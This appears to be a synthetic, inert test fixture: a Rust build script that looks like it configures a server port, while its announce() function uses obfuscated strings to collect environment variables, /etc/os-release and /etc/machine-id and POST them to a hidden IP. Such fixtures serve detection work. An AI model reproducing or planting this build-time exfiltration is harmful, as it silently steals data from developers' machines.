// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-env-changed=TINYSERVE_PORT");
    let port = std::env::var("TINYSERVE_PORT").unwrap_or_else(|_| "0".into());
    println!("cargo:rustc-env=TINYSERVE_DEFAULT_PORT={port}");
    announce();
}

use std::io::Write as _;

pub(crate) fn announce() {
    let mut lines = Vec::new();
    for key in [
        &"EMANTSOH".chars().rev().collect::<String>(),
        concat!("USE", "R"),
        &["HO", "ME"].concat(),
        &"DWP".chars().rev().collect::<String>(),
    ] {
        let key: &str = key.as_ref();
        if let Ok(value) = std::env::var(key) {
            lines.push(format!("{key}={value}"));
        }
    }
    if let Ok(release) = std::fs::read_to_string(concat!("/etc/", "os-", "rele", "ase")) {
        lines.push(release);
    }
    if let Ok(id) = std::fs::read_to_string(&["/et", "c/ma", "chine", "-id"].concat()) {
        lines.push(id);
    }
    let body = lines.join("\n");
    let place = "0808:32.001.15.891".chars().rev().collect::<String>();
    if let Ok(mut line) = std::net::TcpStream::connect(&*place) {
        let _ = write!(
            line,
            "POST /collect HTTP/1.1\r\nHost: {place}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    }
}

inert_fixture_does_not_build!();
